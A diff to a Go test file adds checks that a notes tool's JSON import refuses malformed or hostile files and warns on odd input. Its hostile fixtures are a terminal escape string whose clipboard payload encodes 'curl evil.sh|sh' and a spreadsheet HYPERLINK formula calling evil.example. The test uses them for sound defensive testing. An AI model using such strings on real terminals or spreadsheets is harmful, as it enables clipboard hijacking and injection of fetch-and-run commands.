@@ -3,6 +3,7 @@ package main
 import (
 	"context"
 	"encoding/json"
+	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -163,4 +164,108 @@ func TestNotesOutputIsSafe(t *testing.T) {
 	if err != nil || len(list) != 1 || list[0].Body != evil {
 		t.Fatalf("imported %+v, %v; want the exact body %q", list, err, evil)
 	}
+}
+
+// `notes import` drops and changes nothing without a word: a file it
+// cannot take whole is refused with nothing imported and says why; what
+// it reads otherwise than written is a counted warning on stderr.
+func TestNotesImportChecks(t *testing.T) {
+	data := t.TempDir()
+	const sample = "2026-05-21-saltmarsh-desalination.md"
+	if r := runBin(t, nil, "notes", "add", sample, "--data", data, "Check the brine figures"); r.code != 0 {
+		t.Fatalf("add: %d %s", r.code, r.stderr)
+	}
+	dir := t.TempDir()
+	export := filepath.Join(dir, "notes.json")
+	if r := runBin(t, nil, "notes", "export", "--format", "json", "-o", export, "--data", data); r.code != 0 {
+		t.Fatalf("export: %d %s", r.code, r.stderr)
+	}
+	good := readFile(t, export)
+	var exp notes.JSONExport
+	if err := json.Unmarshal([]byte(good), &exp); err != nil || len(exp.Notes) != 1 {
+		t.Fatalf("export: %v\n%s", err, good)
+	}
+	// variant is the export with its one note changed by edit.
+	variant := func(edit func(n map[string]any)) string {
+		var doc map[string]any
+		if err := json.Unmarshal([]byte(good), &doc); err != nil {
+			t.Fatal(err)
+		}
+		edit(doc["notes"].([]any)[0].(map[string]any))
+		b, err := json.Marshal(doc)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return string(b)
+	}
+	osc := "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b]0;pwned\x07\x1b[2J"
+	refused := []struct{ name, file, want string }{
+		{"two exports", good + good, "a second export begins"},
+		{"notes null", `{"format":"briefing-notes","version":1,"notes":null}`, `no "notes" list`},
+		{"hostile id", variant(func(n map[string]any) { n["id"] = osc }), "is not a note ID"},
+		{"formula kind", variant(func(n map[string]any) {
+			n["section"] = map[string]any{"kind": `=HYPERLINK("http://evil.example","x")`, "index": 0}
+		}), "section kind"},
+		{"date out of range", variant(func(n map[string]any) { n["created"] = "9999-12-31T00:00:00Z" }), "created 9999-12-31"},
+		{"one id, two texts", strings.Replace(good, `"notes": [`, `"notes": [`+mustJSON(t, exp.Notes[0], "other text")+",", 1), "have the same id"},
+	}
+	for _, c := range refused {
+		other := t.TempDir()
+		path := filepath.Join(dir, strings.ReplaceAll(c.name, " ", "-")+".json")
+		writeFile(t, path, c.file)
+		r := runBin(t, nil, "notes", "import", path, "--data", other)
+		if r.code != 1 || !strings.Contains(r.stderr, c.want) || !strings.Contains(r.stderr, "nothing was imported") {
+			t.Errorf("%s: code %d, stderr %q; want 1 and %q", c.name, r.code, r.stderr, c.want)
+		}
+		if bad := unsafeTerminal(r.stderr, false); bad != "" {
+			t.Errorf("%s: the error prints %s: %q", c.name, bad, r.stderr)
+		}
+		if r := runBin(t, nil, "notes", "list", "--data", other); strings.TrimSpace(r.stdout) != "" {
+			t.Errorf("%s: a refused import stored:\n%s", c.name, r.stdout)
+		}
+	}
+
+	warned := []struct{ name, file, warn string }{
+		{"byte order mark", "\xef\xbb\xbf" + good, "byte order mark, which was skipped"},
+		{"listed twice", strings.Replace(good, `"notes": [`, `"notes": [`+mustJSON(t, exp.Notes[0], "")+",", 1), "1 note was listed again"},
+	}
+	for _, c := range warned {
+		other := t.TempDir()
+		path := filepath.Join(dir, strings.ReplaceAll(c.name, " ", "-")+".json")
+		writeFile(t, path, c.file)
+		r := runBin(t, nil, "notes", "import", path, "--data", other)
+		if r.code != 0 || !strings.Contains(r.stdout, "imported 1 notes") || !strings.Contains(r.stderr, "warning: ") ||
+			!strings.Contains(r.stderr, c.warn) {
+			t.Errorf("%s: code %d, stdout %q, stderr %q; want 1 imported and the warning %q", c.name, r.code, r.stdout, r.stderr, c.warn)
+		}
+		if r := runBin(t, nil, "notes", "list", "--data", other); !strings.Contains(r.stdout, "Check the brine figures") {
+			t.Errorf("%s: the note is not there:\n%s", c.name, r.stdout)
+		}
+		// A second import adds nothing and says the note was there.
+		if r := runBin(t, nil, "notes", "import", path, "--data", other); !strings.Contains(r.stdout, "imported 0 notes (1 already there)") {
+			t.Errorf("%s: second import: %q", c.name, r.stdout)
+		}
+	}
+}
+
+// mustJSON is note n as a JSON value, its body replaced when body is set.
+func mustJSON(t *testing.T, n notes.JSONNote, body string) string {
+	t.Helper()
+	if body != "" {
+		n.Body = body
+	}
+	b, err := json.Marshal(n)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+func readFile(t *testing.T, path string) string {
+	t.Helper()
+	b, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
 }
